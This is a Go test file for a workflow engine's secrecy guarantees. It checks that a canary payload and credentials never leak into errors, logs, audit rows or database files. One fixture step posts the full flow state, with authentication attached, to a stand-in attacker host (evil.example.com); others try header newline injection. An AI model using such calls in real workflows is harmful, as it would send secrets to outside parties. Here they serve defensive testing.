package activities

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/tenonhq/tenon/examples/bookkeeper/ledger"
	"github.com/tenonhq/tenon/schema"
	"github.com/tenonhq/tenon/schema/store"
	"github.com/tenonhq/tenon/schema/store/storetest"
	"github.com/tenonhq/tenon/schema/task"
)

// payload is text of a payload: it belongs into sealed values only.
const payload = "payload-2d1e77ab-text"

// TestSecrecy runs flows into every kind of error with a canary for payload and
// looks for it, and for the credential, in what leaves the executor in clear:
// answers, errors, logs, rows, files (invariants 1, 3 and 10).
func TestSecrecy(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		r := newRig(t, b, ledger.Keys)
		doc := r.deploy(`
do:
  - number: { set: { a: '${ .text + 1 }' } }
  - index: { set: { a: '${ .text.b }' } }
  - raised: { set: { a: '${ error(.text) }' } }
  - checked: { input: { schema: { document: { type: object, properties: { text: { type: number } } } } }, set: { a: 1 } }
  - pause: { wait: { seconds: '${ .text }' } }
  - loop: { for: { in: '${ .text }' }, do: [{ x: { set: { a: 1 } } }] }
  - raise: { raise: { error: { type: '${ .text }', status: 400, title: '${ .text }', detail: '${ .text }', instance: '${ .text }' } } }
  - away: { call: http, with: { method: post, endpoint: '${ "https://" + .text + ".invalid/" + .text }', body: '${ . }' } }
  - refused: { call: http, with: { method: post, endpoint: { uri: '${ "https://evil.example.com/" + .text }', authentication: { use: books } }, body: '${ . }' } }
  - scheme: { call: http, with: { method: post, endpoint: { uri: '${ "ftp://" + .text }', authentication: { use: books } }, body: '${ . }' } }
  - method: { call: http, with: { method: '${ .text + " x" }', endpoint: { uri: /bills, authentication: { use: books } }, body: '${ . }' } }
  - header: { call: http, with: { method: post, endpoint: { uri: /bills, authentication: { use: books } }, headers: { a: '${ .text + "\n" }' }, body: '${ . }' } }
  - draft: { call: http, with: { method: post, endpoint: { uri: /bills, authentication: { use: books } }, body: '${ . }' } }
  - good: { call: http, with: { method: get, endpoint: { uri: /suppliers, authentication: { use: books } }, query: { name: '${ .text }' } } }
`)
		p := r.process()
		var clear strings.Builder
		for i := range doc.Do {
			task1 := &doc.Do[i]
			n := r.start(doc, `{"text":"`+payload+`"}`)
			req := n.whole(task1.Pointer)
			if task1.Wait != nil || task1.For != nil {
				req.Phase, req.Key = task.PhaseEnter, req.Key+":enter"
			}
			res, err := p.step(req)
			if err != nil {
				clear.WriteString(err.Error())
			}
			if task1.Name != "good" {
				require.True(t, err != nil || res.Fault != nil || res.Stopped, task1.Name)
			}
			if res.Fault != nil && task1.Name != "raise" { // What a flow raises, it chose itself.
				clear.Write(mustJSONOf(t, res))
			}
			if err == nil && !res.Stopped {
				require.NoError(t, p.Finish(t.Context(), task.FinishRequest{Owner: n.owner(), Key: ":finish", Fault: res.Fault, Output: res.Output}))
			}
			clear.Write(mustJSONOf(t, n.row()))
			clear.Write(mustJSONOf(t, n.effects()))
		}
		audit, err := r.cell.Work().ListAudit(t.Context(), store.AuditFilter{})
		require.NoError(t, err)
		clear.Write(mustJSONOf(t, audit))
		clear.WriteString(r.logged())
		seen := clear.String()
		if b.Name == "sqlite" {
			require.NoError(t, r.cell.Close())
			require.NoError(t, filepath.WalkDir(b.Admin.Directory, func(path string, d os.DirEntry, err error) error {
				if err != nil || d.IsDir() {
					return err
				}
				content, err := os.ReadFile(path)
				seen += string(content)
				return err
			}))
		}
		for _, secret := range []string{payload, r.book.Token(), string(r.private.Reveal())} {
			for _, form := range []string{
				secret, base64.StdEncoding.EncodeToString([]byte(secret)), hex.EncodeToString([]byte(secret)), secret[:min(len(secret), 16)],
			} {
				require.NotContains(t, seen, form)
			}
		}
	})
}

// TestErrorsOfTheInfrastructure travel to the engine: they have codes and ids.
func TestErrorsOfTheInfrastructure(t *testing.T) {
	t.Parallel()
	r := newRig(t, storetest.SQLite(t), ledger.Keys)
	n, p := r.start(r.deploy(billFlow), `{"order":"`+payload+`"}`), r.process()
	p.plug.after = func(json.RawMessage, error) (json.RawMessage, error) {
		return nil, schema.Errorf(schema.CodeUnavailable, "the connector failed")
	}
	_, err := p.step(n.whole(billTask))
	require.ErrorContains(t, err, n.effects()[0].ID)
	require.NotContains(t, err.Error()+r.logged(), payload)
}
